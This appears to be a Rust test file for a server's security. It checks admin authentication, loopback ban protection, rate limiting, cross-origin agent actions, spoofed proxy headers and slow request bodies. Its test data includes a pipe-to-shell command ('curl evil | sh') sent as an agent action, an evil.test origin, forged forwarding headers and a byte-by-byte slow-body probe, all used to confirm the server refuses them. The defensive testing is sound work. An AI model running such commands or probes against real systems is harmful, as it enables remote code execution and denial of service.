//! A server that asks nobody for a token: nobody becomes an admin by asking, and nobody is locked out.

use serde_json::{Value, json};
use stoa::server::Running;

use kit::{
    Client, PATIENCE, START_SECRET, config,
    guarded::kept_in,
    server, server_with,
    wire::{self, POLLING, get, once, post},
};

const BANS: &str = "/api/v1/admin/bans";

/// A client as a page of this origin is one.
async fn page(server: &Running, origin: &str, auth: &Value) -> Client {
    Client::open_from(server.address(), "/", auth.clone(), Some(origin))
        .await
        .expect("it may watch")
}

fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {token}\r\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_is_admin_by_asking() {
    let server = server().await;
    let address = server.address();
    for namespace in ["/", "/admin"] {
        for auth in [
            json!({ "role": "admin" }),
            json!({ "role": "admin", "token": "guess" }),
        ] {
            let refused = Client::open(address, namespace, auth).await.err().unwrap();
            assert!(
                refused.starts_with("unauthorized:")
                    && refused.contains("secret that the start prints"),
                "{refused}"
            );
        }
    }
    let mut operator = Client::open(address, "/admin", json!({ "role": "operator" }))
        .await
        .expect("statistics are for operators");
    assert_eq!(
        operator.call("get_stats", json!(null)).await["status"],
        "ok"
    );
    for (act, argument) in [
        ("list_connections", json!({})),
        ("list_bans", json!({})),
        ("list_revocations", json!({})),
        (
            "ban",
            json!({ "address": "127.0.0.1", "include_self": true }),
        ),
        ("ban", json!({ "user": "ann" })),
        ("unban", json!({ "user": "ann" })),
        ("revoke", json!({ "user": "ann" })),
        ("unrevoke", json!({ "user": "ann" })),
        ("disconnect_client", json!({ "client_id": "x" })),
    ] {
        let answer = operator.call(act, argument).await;
        assert_eq!(answer["error"]["code"], "forbidden", "{act}: {answer}");
    }
    for (method, path) in [
        ("GET", "/api/v1/admin/connections"),
        ("GET", BANS),
        ("GET", "/api/v1/admin/revocations"),
        ("DELETE", "/api/v1/admin/connections/x"),
        ("DELETE", "/api/v1/admin/bans?user=ann"),
    ] {
        for lines in [String::new(), bearer("guess")] {
            let answer = once(address, &get(path, &lines).replacen("GET", method, 1)).await;
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (401, "unauthorized"),
                "{method} {path}"
            );
        }
    }
    for path in [
        BANS,
        "/api/v1/admin/revocations",
        "/api/v1/admin/disconnect",
    ] {
        let answer = once(
            address,
            &post(path, "application/json", "{\"user\":\"ann\"}"),
        )
        .await;
        assert_eq!(
            (answer.status, answer.code().as_str()),
            (401, "unauthorized"),
            "{path}"
        );
    }
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_secret_of_the_start_makes_an_admin_wherever_a_token_may_stand() {
    let server = server().await;
    let address = server.address();
    assert_eq!(server.start_secret(), Some(START_SECRET));
    let mut boss = Client::open(address, "/admin", json!({ "token": START_SECRET }))
        .await
        .expect("it opens");
    assert_eq!(boss.event("connection_established").await["role"], "admin");
    let listed = boss.call("list_connections", json!({})).await;
    assert_eq!(listed["total"], 1, "{listed}");
    let shown = listed.to_string();
    assert!(!shown.contains(START_SECRET), "{shown}");
    for request in [
        get(BANS, &bearer(START_SECRET)),
        get(&format!("{BANS}?token={START_SECRET}"), ""),
    ] {
        assert_eq!(once(address, &request).await.status, 200, "{request}");
    }
    // A live connection gets on by it, and by nothing near it.
    let (mut client, _) = Client::connect(address, json!({})).await;
    let wrong = format!("{START_SECRET}x");
    let answer = client.call("authenticate", json!({ "token": wrong })).await;
    assert_eq!(answer["role"], "observer", "{answer}");
    let answer = client
        .call("authenticate", json!({ "token": START_SECRET }))
        .await;
    assert_eq!(answer["role"], "admin", "{answer}");
    server.shutdown().await;
    // Each start has one of its own, unless the settings name it; where tokens are required there is none.
    let minted = server_with(|c| c.authentication.start_secret = "".into()).await;
    let secret = minted.start_secret().expect("there is one").to_owned();
    assert!(secret.len() > 40 && secret != START_SECRET);
    let lines = bearer(&secret);
    assert_eq!(once(minted.address(), &get(BANS, &lines)).await.status, 200);
    minted.shutdown().await;
    let guarded = kit::guarded::guarded(|_| {}).await;
    assert_eq!(guarded.start_secret(), None);
    let lines = bearer(START_SECRET);
    assert_eq!(
        once(guarded.address(), &get(BANS, &lines)).await.status,
        401
    );
    guarded.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn this_machine_is_never_banned_and_a_file_that_says_so_counts_for_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("access.json");
    let ban = |address: &str| json!({ "address": address, "until": null, "reason": "" });
    let old =
        json!({ "bans": [ban("127.0.0.1"), ban("::1"), ban("203.0.113.9")], "revocations": [] });
    std::fs::write(&file, old.to_string()).unwrap();
    let mut settings = config();
    kept_in(&mut settings, &folder.path().join("stoa.db"));
    settings.access.file.clone_from(&file);
    let server = stoa::server::start(&settings).await.expect("starts");
    let address = server.address();
    let (mut client, _) = Client::connect(address, json!({})).await;
    let mut boss = Client::open(address, "/admin", json!({ "token": START_SECRET }))
        .await
        .expect("it opens");
    for spelling in ["127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1"] {
        for include_self in [false, true] {
            let argument = json!({ "address": spelling, "include_self": include_self });
            let answer = boss.call("ban", argument.clone()).await;
            assert_eq!(answer["error"]["code"], "bad_request", "{answer}");
            let message = answer["error"]["message"].as_str().unwrap();
            assert!(message.contains("this machine itself"), "{message}");
            let over_http = post(BANS, "application/json", &argument.to_string());
            let over_http = over_http.replacen("\r\n", &format!("\r\n{}", bearer(START_SECRET)), 1);
            assert_eq!(once(address, &over_http).await.status, 400);
        }
    }
    client.call("ping", json!({})).await;
    let answer = boss.call("ban", json!({ "address": "203.0.113.10" })).await;
    assert_eq!(answer["status"], "ok", "others can be: {answer}");
    server.shutdown().await;
    let server = stoa::server::start(&settings).await.expect("starts again");
    let address = server.address();
    Client::connect(address, json!({})).await.0.close().await;
    assert_eq!(once(address, &get("/api/v1/state", "")).await.status, 200);
    assert_eq!(once(address, &get("/healthz", "")).await.status, 200);
    // A ban that was written before can be lifted.
    let lifted = get(&format!("{BANS}?address=127.0.0.1"), &bearer(START_SECRET));
    let lifted = once(address, &lifted.replacen("GET", "DELETE", 1)).await;
    assert!(lifted.body.contains("true"), "{lifted:?}");
    server.shutdown().await;
    // With tokens the addresses of this machine are like all others: whoever holds an admin's token elsewhere can lift it.
    std::fs::write(&file, old.to_string()).unwrap();
    let guarded = kit::guarded::guarded(|c| {
        kept_in(c, &folder.path().join("stoa.db"));
        c.access.file.clone_from(&file);
    })
    .await;
    let lines = bearer(&kit::guarded::admin());
    let answer = once(guarded.address(), &get("/api/v1/state", &lines)).await;
    assert_eq!((answer.status, answer.code().as_str()), (403, "banned"));
    guarded.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn too_many_messages_lock_nobody_out_of_this_machine() {
    let server = server_with(|c| {
        c.rate_limiting.enabled = stoa::config::Switch::On;
        c.rate_limiting.opening_messages = 0;
        c.rate_limiting.burst_limit.set(1).unwrap();
        c.rate_limiting.strikes.set(2).unwrap();
    })
    .await;
    let address = server.address();
    let (mut noisy, _) = Client::connect(address, json!({})).await;
    for _ in 0..10 {
        noisy
            .emit("join_room", json!({ "room": "project:p1" }))
            .await;
    }
    let told = noisy
        .event_where("error", |e| e["code"] == "rate_limited")
        .await;
    assert!(told["message"].is_string());
    let (other, _) = Client::connect(address, json!({})).await;
    other.close().await;
    let answer = noisy
        .call("join_room", json!({ "room": "project:p1" }))
        .await;
    assert_eq!(
        answer["error"]["code"], "rate_limited",
        "still there: {answer}"
    );
    server.shutdown().await;
}

/// Any page of this machine may watch and publish; only the server's own has agents do something.
#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_origin_acts_on_no_agent_without_a_proof() {
    let server = server().await;
    let address = server.address();
    let (mut agent, _) = Client::connect(
        address,
        json!({ "role": "producer", "rooms": ["agent:a:actions"] }),
    )
    .await;
    let act = json!({ "agent_id": "a", "action": "run", "params": { "cmd": "curl evil | sh" } });
    let operator = json!({ "role": "operator" });
    let own = format!("http://{address}");
    let mut other = page(&server, "http://localhost:5173", &operator).await;
    let answer = other.call("agent_action", act.clone()).await;
    assert_eq!(answer["error"]["code"], "forbidden", "{answer}");
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap()
            .contains("auth.token"),
        "{answer}"
    );
    let foreign = once(address, &get(POLLING, "Origin: http://evil.test\r\n")).await;
    assert_eq!(foreign.status, 403);
    assert!(
        agent
            .so_far()
            .await
            .iter()
            .all(|(name, _)| name != "agent_action")
    );
    let proven = json!({ "token": START_SECRET });
    for (origin, auth) in [
        ("http://localhost:5173", &proven),
        (own.as_str(), &operator),
    ] {
        let mut page = page(&server, origin, auth).await;
        let answer = page.call("agent_action", act.clone()).await;
        assert_eq!(answer["status"], "ok", "{origin}: {answer}");
        agent.event("agent_action").await;
    }
    let (mut program, _) = Client::connect(address, operator).await;
    let answer = program.call("agent_action", act).await;
    assert_eq!(answer["status"], "ok", "a program: {answer}");
    agent.event("agent_action").await;
    server.shutdown().await;
}

/// A proxy on this machine makes the server public although it listens on loopback.
#[tokio::test(flavor = "multi_thread")]
async fn what_comes_through_a_proxy_is_refused_while_nobody_is_asked_for_a_token() {
    let event = post("/api/v1/events", "application/json", "{\"type\":\"a.b\"}");
    let through =
        |request: &str, line: &str| request.replacen("\r\n", &format!("\r\n{line}\r\n"), 1);
    let proxies = [
        "X-Forwarded-For: 203.0.113.9",
        "X-Forwarded-For: 127.0.0.1, 203.0.113.9",
        "Forwarded: for=203.0.113.9;proto=https",
        "X-Real-IP: 203.0.113.9",
        "Via: 1.1 nginx",
        "X-Forwarded-Proto: https",
        "X-Forwarded-Host: stoa.example",
        "X-Forwarded-Port: 443",
        "X-Forwarded-Prefix: /stoa",
        "X-Forwarded-Scheme: https",
        "X-Forwarded-Ssl: on",
        "X-Cluster-Client-IP: 203.0.113.9",
        "Fastly-Client-IP: 203.0.113.9",
        "Fly-Client-IP: 203.0.113.9",
        "X-Azure-ClientIP: 203.0.113.9",
        "X-Envoy-External-Address: 203.0.113.9",
        "X-Original-Forwarded-For: 203.0.113.9",
        "CDN-Loop: cloudflare",
        "X-Forwarded-For: 127.0.0.1\r\nFly-Client-IP: 203.0.113.9",
    ];
    let server = server().await;
    let address = server.address();
    for line in proxies {
        for request in [
            &event,
            &get("/api/v1/state", ""),
            &get(POLLING, ""),
            &get("/metrics", ""),
            &get("/", ""),
        ] {
            let answer = once(address, &through(request, line)).await;
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (403, "forbidden"),
                "{line}: {answer:?}"
            );
            assert!(
                answer.body.contains("[authentication] required"),
                "{answer:?}"
            );
        }
        for probe in ["/healthz", "/readyz"] {
            assert_eq!(
                once(address, &through(&get(probe, ""), line)).await.status,
                200,
                "{probe}"
            );
        }
    }
    assert_eq!(
        kit::refused(address, "proxy", "unauthenticated").await,
        5 * 19
    );
    // A development server on this machine forwards for this machine.
    for line in [
        "X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: localhost:5173",
        "Forwarded: for=\"[::1]:4000\"",
    ] {
        assert_eq!(
            once(address, &through(&event, line)).await.status,
            202,
            "{line}"
        );
    }
    server.shutdown().await;
    let meant = server_with(|c| c.server.allow_insecure = true).await;
    assert_eq!(
        once(meant.address(), &through(&event, proxies[0]))
            .await
            .status,
        202
    );
    meant.shutdown().await;
    let guarded = kit::guarded::guarded(|_| {}).await;
    let token = bearer(&kit::guarded::producer());
    let answer = once(
        guarded.address(),
        &through(&through(&event, proxies[0]), token.trim_end()),
    )
    .await;
    assert_eq!(
        answer.status, 202,
        "who is asked for a token is asked behind a proxy too: {answer:?}"
    );
    guarded.shutdown().await;
}

/// A body a byte at a time, at each door of the admin API, by somebody who may.
#[tokio::test(flavor = "multi_thread")]
async fn the_admin_api_waits_for_no_body_without_end_and_reads_none_that_is_too_large() {
    use tokio::{io::AsyncWriteExt, net::TcpStream};
    let server = server_with(|c| {
        c.server.body_timeout.set(1.0).unwrap();
        c.server.max_http_buffer_size.set(1_024).unwrap();
    })
    .await;
    let address = server.address();
    let head = |method: &str, path: &str, length: usize| {
        format!(
            "{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n{}\r\n",
            bearer(START_SECRET)
        )
    };
    for (method, path) in [
        ("POST", BANS),
        ("POST", "/api/v1/admin/revocations"),
        ("POST", "/api/v1/admin/disconnect"),
        ("DELETE", "/api/v1/admin/revocations"),
    ] {
        let stream = TcpStream::connect(address).await.unwrap();
        let (mut read, mut write) = stream.into_split();
        write
            .write_all(head(method, path, 900).as_bytes())
            .await
            .unwrap();
        let drip = tokio::spawn(async move {
            while write.write_all(b" ").await.is_ok() {
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
        });
        let answer = tokio::time::timeout(PATIENCE, wire::answer(&mut read)).await;
        let answer = answer.expect("in time").expect("an answer");
        assert_eq!(
            (answer.status, answer.code().as_str()),
            (408, "timeout"),
            "{method} {path}"
        );
        drip.abort();
        let large = once(address, &head(method, path, 1_025)).await;
        assert_eq!(
            (large.status, large.code().as_str()),
            (413, "too_large"),
            "{method} {path}"
        );
    }
    // Without a proof no byte of it is read.
    let unproven = head("POST", BANS, 900).replacen(&bearer(START_SECRET), "", 1);
    assert_eq!(once(address, &unproven).await.status, 401);
    server.shutdown().await;
}
